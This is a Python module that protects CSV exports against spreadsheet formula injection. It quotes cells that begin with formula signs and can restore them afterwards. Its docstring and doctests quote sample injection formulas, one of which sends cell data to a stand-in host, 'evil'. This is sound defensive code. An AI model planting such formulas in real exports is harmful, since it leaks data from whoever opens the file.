"""CSV that a spreadsheet opens without running anything in it: every backbone export writes
through here.

A spreadsheet treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or
carriage return) as a formula, so a partner's file, a group label or a sign-in name like
``=HYPERLINK("http://evil/?"&A1)`` would run when someone opens the export. Following OWASP's
guidance on CSV injection, such a text cell is written with a single quote in front, which the
spreadsheet shows as text. Numbers stay numbers: an ``int`` or ``float`` is written as it is, and
so is text that is only a number (``-3``, ``-2.5%``, ``1,234``). This lives in ``disclosure`` —
at the bottom of the house, importing nothing of backbone — so every app can export through it.

The quote is reversible: ``restore`` takes it off again, so backbone's own readers (``backbone
check-disclosure``, ``backbone audit verify``, the validation report page) see exactly what was
written. A text that already starts with quotes before a formula sign gets one more quote, so
nothing is ever taken off that was not put on.

>>> neutralise('=HYPERLINK("http://evil/")')
'\\'=HYPERLINK("http://evil/")'
>>> neutralise(-3), neutralise("-3"), neutralise("-2.5%"), neutralise("- item")
(-3, '-3', '-2.5%', "'- item")
>>> [restore(neutralise(text)) for text in ["=1+1", "'=1+1", "'plain", "-3"]]
['=1+1', "'=1+1", "'plain", '-3']
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Iterator
from typing import Any, Protocol

# A formula sign after any number of quotes (see the module docstring on reversibility).
FORMULA_START = re.compile(r"'*[=+\-@\t\r]")
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d[\d,]*)?\.?\d+(?:[eE][+-]?\d+)?%?")


class Writable(Protocol):
    def write(self, text: str, /) -> object: ...


def neutralise(value: Any) -> Any:
    """``value`` as it is safe to write: text that a spreadsheet would take for a formula gets a
    leading single quote; numbers, and text that is only a number, are left alone."""
    if not isinstance(value, str) or not FORMULA_START.match(value):
        return value
    if PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def restore(text: str) -> str:
    """The text ``neutralise`` was given, from what it wrote."""
    if text.startswith("'") and FORMULA_START.match(text, 1):
        return text[1:]
    return text


class SafeWriter:
    """``csv.writer`` whose every cell passes through ``neutralise``."""

    def __init__(self, handle: Writable, **options: Any) -> None:
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(handle: Writable, **options: Any) -> SafeWriter:
    """A CSV writer for an export (options as for ``csv.writer``).

    >>> import io
    >>> out = io.StringIO()
    >>> writer(out, lineterminator="\\n").writerow(["@SUM(A1)", -1.5, "ok"])
    >>> out.getvalue()
    "'@SUM(A1),-1.5,ok\\n"
    """
    return SafeWriter(handle, **options)


def dict_rows(lines: Iterable[str], **options: Any) -> Iterator[dict[str, str]]:
    """``csv.DictReader`` over an export, each value restored (a missing one stays ``None``).

    >>> list(dict_rows(["name,n", "'=1+1,-3"]))
    [{'name': '=1+1', 'n': '-3'}]
    """
    for row in csv.DictReader(lines, **options):
        yield {
            key: restore(value) if isinstance(value, str) else value for key, value in row.items()
        }
